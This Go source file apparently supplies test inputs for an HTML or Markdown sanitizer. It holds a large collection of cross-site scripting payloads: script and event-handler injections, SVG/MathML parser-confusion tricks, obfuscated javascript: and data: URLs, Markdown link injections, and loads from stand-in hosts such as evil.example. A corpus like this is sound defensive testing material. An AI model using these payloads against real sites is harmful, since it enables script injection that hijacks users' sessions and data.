package payload

import "strings"

// Texts returns the payloads: a list of known ones, and the products of what
// varies in them. The order is fixed, so that a failing page can be found again.
func Texts() []string {
	all := append([]string(nil), known[:]...)
	all = append(all, schemes()...)
	return append(all, tags()...)
}

// schemes hides a scheme that runs in the ways that readers of addresses have
// fallen for: case, white space and control characters before and inside it,
// letters that fold to ASCII ones (ſ to s), escapes that HTML or the URL resolves
// later, and another scheme or host around it.
func schemes() []string {
	var all []string
	for _, s := range []string{"javascript:alert(1)", "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>"} {
		name, rest, _ := strings.Cut(s, ":")
		all = append(all,
			strings.ToUpper(name)+":"+rest, "\t"+s, "\n"+s, "\x1f"+s, "\u2028"+s, "\ufeff"+s, name[:4]+"\t"+name[4:]+":"+rest, name+"\n:"+rest,
			name+"\u200b:"+rest, strings.Replace(s, "s", "\u017f", 1), name+"&colon;"+rest, name+"&#x3a;"+rest, name+"&#58"+rest, name+"://h.example/%0a"+rest,
			"//h.example/"+s, "#"+s, "?"+s, "./"+s, "feed:"+s, "https:"+s, "https://h.example\x00"+s, "https://h.example\\@"+s, "https://u:p@"+s,
			"]("+s+")", "<"+s+">", "[x]("+s+")", "![x]("+s+")", "[x]: "+s)
	}
	return all
}

// tags begins elements in the ways that one reader takes for text and another
// for markup, after what ends or begins a block in Markdown. Some names fold to a
// known one only in Unicode (ſcript, linK with the Kelvin sign): a browser does not
// fold them, a filter might.
func tags() []string {
	var all []string
	for _, name := range []string{
		"script", "SCRIPT", "\u017fcript", "\u017ftyle", "script\u0131", "style", "textarea", "lin\u212a", "pre", "iframe", "title", "svg", "math", "div", "!--", "?", "!A", "![CDATA[", "/script", "a-b",
	} {
		all = append(all, "<"+name+"><img src=x onerror=alert(1)>", "<"+name+" onload=alert(1) x=\"", "<"+name)
	}
	for _, before := range []string{
		"\n\n", "\n", "- ", "1. ", "> ", "# ", "    ", "\t", "***\n", "---\n", "===\n", "|-|\n|", ": ", "[^1]: ", "[x]: ", "`", "``", "```\n", "~~~\n", "\\", "\\\\", "&", "&amp;", "!", "[", "](", "*", "**", "_", "~~", "\\|", "`\\|", "\u0085", "\u2028", "\f", "\x1b", "{", "$$", "x\u202e",
	} {
		all = append(all, before+"<img src=x onerror=alert(1)>", before+"<script>alert(1)</script>")
	}
	// Attributes in braces are an extension of some readers of Markdown.
	for _, attrs := range []string{"onclick=alert(1)", `style="position:fixed;inset:0"`, "#x .y onclick=alert(1)"} {
		all = append(all, "x {"+attrs+"}", "x\n{"+attrs+"}\n===")
	}
	return all
}

// known are attacks on those who show foreign HTML: script in tags, event
// handlers and addresses, with the tricks that filters are known to miss. They
// come in groups: elements that run, foreign content (SVG and MathML, in which
// other rules of parsing hold), elements that load, attributes that run, comments
// and declarations, quotation marks that end an attribute, encodings, addresses,
// and Markdown.
var known = [...]string{
	// Scripts, whole, broken and behind what closes the element around them.
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/src=data:,alert(1)>`,
	`<script>alert(1)//`,
	`<script>alert(1)<!–`,
	`</script><script>alert(1)</script>`,
	`</title><script>alert(1)</script>`,
	`</textarea><script>alert(1)</script>`,
	`</style><script>alert(1)</script>`,
	`</noscript><script>alert(1)</script>`,
	`</p></div></article><script>alert(1)</script>`,
	`</code></pre><script>alert(1)</script>`,
	`</td></tr></table><script>alert(1)</script>`,
	// Pictures: quoting that readers take apart in different ways.
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert(1)">`,
	`<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
	`<img/src/onerror=alert(1)>`,
	"<img src=`x`onerror=alert(1)>",
	`<img src=x:alert(alt) onerror=eval(src) alt=1>`,
	`<img srcset=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<image src=x onerror=alert(1)>`,
	// Drawings and formulas, in which a parser follows other rules, so that a
	// filter's tree and a browser's may differ.
	`<svg onload=alert(1)>`,
	`<svg/onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><script xlink:href=data:,alert(1) /></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style>`,
	`<svg><p><style><g title="</style><img src=x onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>`,
	`<math><annotation-xml encoding="text/html"><xmp></xmp><img src=x onerror=alert(1)></xmp>`,
	`<math href="javascript:alert(1)">x</math>`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
	// Text to a browser with scripting, elements to one without.
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	// Elements that load something by themselves.
	`<iframe src=javascript:alert(1)>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<iframe src="data:text/html,<script>alert(1)</script>">`,
	`<object data=javascript:alert(1)>`,
	`<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
	`<embed src=javascript:alert(1)>`,
	`<embed code="https://evil.example/x.swf" allowscriptaccess=always>`,
	`<applet code=x.class>`,
	`<base href="javascript:alert(1)//">`,
	`<link rel=stylesheet href=javascript:alert(1)>`,
	`<link rel=import href=//evil.example>`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
	`<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
	// Styles, which could run scripts once and can still cover a page.
	`<style>@import'//evil.example/x.css';</style>`,
	`<style>*{background:url(javascript:alert(1))}</style>`,
	`<div style="width:expression(alert(1))">`,
	`<div style="background:url(javascript:alert(1))">`,
	`<div style=-moz-binding:url(//evil.example/x.xml#x)>`,
	// Attributes that run without a click.
	`<body onload=alert(1)>`,
	`<body background=javascript:alert(1)>`,
	`<input autofocus onfocus=alert(1)>`,
	`<input type=image src=javascript:alert(1)>`,
	`<button formaction=javascript:alert(1)>x</button>`,
	`<form action=javascript:alert(1)><input type=submit>`,
	`<select autofocus onfocus=alert(1)>`,
	`<textarea autofocus onfocus=alert(1)>`,
	`<keygen autofocus onfocus=alert(1)>`,
	`<video><source onerror=alert(1)></video>`,
	`<video poster=javascript:alert(1)//>`,
	`<audio src=x onerror=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<marquee onstart=alert(1)>`,
	`<isindex type=image src=1 onerror=alert(1)>`,
	`<frameset onload=alert(1)>`,
	`<table background=javascript:alert(1)>`,
	`<td background="javascript:alert(1)">`,
	// What waits for a click.
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=javas&#99;ript:alert(1)>x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a onmouseover=alert(1)>x</a>`,
	`<a href="x" style="position:fixed;inset:0">x</a>`,
	`<x onclick=alert(1)>x</x>`,
	`<xss style="behavior:url(x.htc)">`,
	// Comments, declarations and the elements that swallow what follows.
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>`,
	`<!><script>alert(1)</script>`,
	`<%<!--'%><script>alert(1);</script -->`,
	`<template><script>alert(1)</script></template>`,
	`<plaintext>`,
	`<xmp><script>alert(1)</script></xmp>`,
	// Marks that end the attribute in which they stand.
	`" onmouseover="alert(1)`,
	`' onmouseover='alert(1)`,
	"` onmouseover=alert(1)",
	`"><script>alert(1)</script>`,
	`'><script>alert(1)</script>`,
	`"/><img src=x onerror=alert(1)>`,
	`x" autofocus onfocus=alert(1) x="`,
	// Escapes, which become tags where text is resolved once too often.
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&#60;script&#62;alert(1)&#60;/script&#62;`,
	`&#x3c;script&#x3e;alert(1)`,
	`%3Cscript%3Ealert(1)%3C/script%3E`,
	"\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
	// Control and invisible characters, and bytes of other encodings.
	"<\x00script>alert(1)</script>",
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	"<\u200bscript>alert(1)</script>",
	"<script\x0c>alert(1)</script>",
	"<img\x0bsrc=x\x0conerror=alert(1)>",
	"\xbcscript\xbealert(1)\xbc/script\xbe",
	"\xc0\xbcscript>alert(1)",
	"\xf0<script>alert(1)</script>",
	// Addresses that run, written as browsers still read them.
	"javascript:alert(1)",
	"JaVaScRiPt:alert(1)",
	" javascript:alert(1)",
	"\x01javascript:alert(1)",
	"\u00a0javascript:alert(1)",
	"java\tscript:alert(1)",
	"java\nscript:alert(1)",
	"java\r\nscript:alert(1)",
	"java\x00script:alert(1)",
	"javascript\n:alert(1)",
	"javascript&colon;alert(1)",
	"javascript&#58;alert(1)",
	"&#106;avascript:alert(1)",
	"&#x6A&#x61vascript:alert(1)",
	"javascript%3Aalert(1)",
	"j%61vascript:alert(1)",
	"javascript://news.example/%0aalert(1)",
	"javascript:https://news.example/%0aalert(1)",
	"javascript:/*--></title></style></textarea></script><svg onload=alert(1)>",
	"vbscript:msgbox(1)",
	"livescript:x",
	"mocha:x",
	// Addresses that hold a document, or lead into the reader's own machine.
	"data:text/html,<script>alert(1)</script>",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"data:image/svg+xml,<svg onload=alert(1)>",
	"DATA:text/html;x,<b>",
	"feed:javascript:alert(1)",
	"view-source:javascript:alert(1)",
	"jar:javascript:alert(1)!",
	"file:///etc/passwd",
	"blob:https://news.example/x",
	"filesystem:https://news.example/x",
	"about:blank",
	// Addresses that look relative and are not, or not the other way.
	"//evil.example/x.js",
	"/\\evil.example",
	"\\\\evil.example",
	"https:javascript:alert(1)",
	"https:\\\\evil.example",
	"http://[::1]:x/\"onload=alert(1)",
	// Sound hosts with something behind them that leaves the attribute.
	"https://news.example/\" onmouseover=\"alert(1)",
	"https://news.example/' onmouseover='alert(1)",
	"https://news.example/<script>alert(1)</script>",
	"https://news.example/?x=<img src=x onerror=alert(1)>",
	"https://news.example/#\"><script>alert(1)</script>",
	"https://news.example/)[x](javascript:alert(1)",
	"https://news.example/>)<script>alert(1)</script>",
	"mailto:x@news.example?body=<script>alert(1)</script>",
	"mailto:\"><script>alert(1)</script>@x",
	// Links, code and tables of Markdown.
	"[x](javascript:alert(1))",
	"[x]: javascript:alert(1)\n[x]",
	"![x](javascript:alert(1))",
	"![x\"onerror=alert(1)](x)",
	"<javascript:alert(1)>",
	"<https://x\" onclick=alert(1)>",
	"](javascript:alert(1))",
	"`<script>`alert(1)",
	"```\n<script>alert(1)</script>\n```",
	"    <script>alert(1)</script>",
	"|\n|-|\n|<script>alert(1)</script>|",
	"\n\n<script>alert(1)</script>\n\n",
	// Templates of programs that may show the output.
	"{{constructor.constructor('alert(1)')()}}",
	"${alert(1)}",
}
